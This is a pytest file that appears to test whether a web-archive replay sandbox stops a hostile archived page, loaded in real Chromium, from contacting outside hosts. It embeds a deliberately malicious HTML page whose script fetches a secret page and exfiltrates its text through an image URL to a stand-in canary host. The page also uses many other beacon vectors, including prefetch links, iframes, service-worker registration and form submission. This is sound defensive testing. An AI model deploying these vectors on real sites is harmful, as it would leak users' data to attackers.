"""Archived pages in a real browser: what they mean to do, they cannot."""

from __future__ import annotations

import base64
import http.server
import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from tests.houses import DAY_AT, Past, seen
from tests.replay.serving import replaying

from recrawl.observe.chromium import browser_found

pytestmark = pytest.mark.skipif(not browser_found()[0], reason=browser_found()[1])

URL = "http://evil.example/"
STAMP = "20260101120000"
SECRET_AT, PICTURE_AT, SCRIPT_AT = DAY_AT + 60.0, DAY_AT + 120.0, DAY_AT + 180.0
PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
# CANARY must never hear of it. The last link is one that a person follows.
EVIL = """<!doctype html><title>evil</title>
<meta http-equiv=refresh content="0; url=http://CANARY/refresh">
<link rel=preconnect href="http://CANARY"><link rel=dns-prefetch href="http://CANARY">
<link rel=prefetch href="http://CANARY/prefetch"><link rel=stylesheet href="http://CANARY/style">
<link rel=modulepreload href="http://CANARY/module"><link rel=icon href="http://CANARY/icon">
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://CANARY/s"]}]}</script>
<style>@import "http://CANARY/import"; body { background: url(http://CANARY/background) }</style>
<img src="http://CANARY/image" onerror="document.title = 'ran'"><iframe src="http://CANARY/frame"></iframe>
<iframe srcdoc="<script>parent.document.title = 'ran'</script><img src='http://CANARY/srcdoc'>"></iframe>
<object data="http://CANARY/object"></object><embed src="http://CANARY/embed">
<video src="http://CANARY/video" autoplay muted></video>
<svg onload="document.title = 'ran'"><image href="http://CANARY/svg" /></svg>
<form id=form action="http://CANARY/form"><input name=a autofocus onfocus="document.title = 'ran'"></form>
<script>
document.title = 'ran';
fetch('http://CANARY/fetch', {mode: 'no-cors'});
fetch('/memento/20260101120100/http://evil.example/secret').then(r => r.text()).then(t =>
  new Image().src = 'http://CANARY/' + encodeURIComponent(t));
navigator.serviceWorker.register('/memento/20260101120100/http://evil.example/secret');
form.submit();
</script><script src="/s.js"></script>
<img id=kept src="/picture.png"><a id=on href="/secret" target=_blank ping="http://CANARY/ping">on</a>"""


class Canary(http.server.BaseHTTPRequestHandler):
    """Notes every connection and request; `/page` is the evil page as a careless server would show it."""

    asked: list[str]
    page: bytes

    def do_GET(self) -> None:
        type(self).asked.append(self.path)
        body = type(self).page if self.path == "/page" else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if body else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Nobody reads it."""


@contextmanager
def canary() -> Iterator[tuple[str, list[str], bytes]]:
    class Fresh(Canary):
        asked: list[str] = []  # noqa: RUF012  # one for each test, shared by its requests
        page = b""

    class Server(http.server.ThreadingHTTPServer):
        def get_request(self) -> tuple[Any, Any]:
            Fresh.asked.append("a connection")
            return super().get_request()

    server = Server(("127.0.0.1", 0), Fresh)
    where = f"127.0.0.1:{server.server_port}"
    Fresh.page = EVIL.replace("CANARY", where).encode()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield where, Fresh.asked, Fresh.page
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_a_hostile_page_reaches_nothing_and_its_links_stay_in_the_past(tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    with canary() as (_, asked, page), sync_playwright() as playwright:
        with Past(tmp_path) as past:
            past.visit(seen(URL, DAY_AT, page))
            past.visit(seen(f"{URL}secret", SECRET_AT, b"<title>secret</title>"))
            past.visit(seen(f"{URL}picture.png", PICTURE_AT, PICTURE, ("Content-Type", "image/png")))
            past.visit(
                seen(f"{URL}s.js", SCRIPT_AT, b"document.title='ran'", ("Content-Type", "text/javascript"))
            )
        browser = playwright.chromium.launch(
            chromium_sandbox=os.geteuid() != 0, executable_path=_executable()
        )
        try:
            with canary() as (where, reached, _):  # the same page from a careless server does reach it
                careless = browser.new_page()
                careless.goto(f"http://{where}/page", wait_until="commit")
                while not {"/fetch", "/image"} <= set(reached):
                    careless.wait_for_timeout(50)
                careless.close()
            with replaying(tmp_path) as client:
                tab = browser.new_page()
                tab.goto(f"{client.origin}/memento/{STAMP}/{URL}", wait_until="load")
                tab.wait_for_load_state("networkidle")
                assert tab.title() == "evil"
                assert tab.locator("#kept").evaluate("picture => picture.naturalWidth") == 1
                assert tab.evaluate("window.origin") == "null"
                assert (
                    tab.evaluate("try { document.cookie } catch (problem) { problem.name }")
                    == "SecurityError"
                )
                tab.locator("#on").click()
                tab.wait_for_url(f"{client.origin}/memento/20260101120100/{URL}secret")
                assert tab.title() == "secret"
            assert tab.context.cookies() == []
            assert asked == []
        finally:
            browser.close()


def _executable() -> str | None:
    names = ("chromium", "chromium-browser", "google-chrome-stable", "google-chrome")
    return next((path for name in names if (path := shutil.which(name))), None)
